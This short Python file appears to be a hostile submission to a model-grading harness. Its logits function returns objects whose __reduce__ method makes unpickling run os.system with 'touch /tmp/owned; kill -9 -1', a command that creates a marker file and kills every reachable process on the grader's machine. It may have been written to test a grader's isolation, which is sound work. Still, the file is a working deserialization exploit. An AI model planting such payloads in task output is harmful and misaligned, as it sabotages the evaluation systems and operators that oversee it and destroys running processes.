"""hostile (objects): returns an object whose unpickling would run code on the grader."""
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned; kill -9 -1",)


def logits(x, W, bias):
    return [Bomb(), {"bomb": Bomb()}, Bomb]
